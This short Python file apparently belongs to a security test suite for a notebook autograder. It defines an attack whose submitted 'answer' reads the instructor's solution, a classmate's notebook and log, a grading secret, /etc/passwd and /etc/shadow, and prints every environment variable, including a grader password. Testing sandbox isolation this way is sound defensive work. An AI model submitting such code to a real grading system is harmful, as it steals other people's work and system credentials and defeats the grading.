"""Read the instructor's solution, a classmate's work, and the accounts of the machine."""

from attacking import Attack

READS = """
import os
from pathlib import Path

def show(path):
    try:
        print(path, Path(path).read_bytes()[:20_000].decode("utf-8", "replace"))
    except OSError as error:
        print(path, type(error).__name__)

for name in ("source/attacked/attacked.ipynb", "submitted/nora/attacked/attacked.ipynb",
             ".grading-secret", "nbgrader_config.py", "logs/attacked/nora.log"):
    show(COURSE + "/" + name)
show("/etc/passwd")
show("/etc/shadow")
print(os.environ.get("GRADER_PASSWORD"), dict(os.environ))
"""
ATTACK = Attack(
    answers={"pairwise-l2": READS},
    wins=lambda run: {"source", "work", "environment"} <= {*run.secrets} and "root:" in run.said,
)
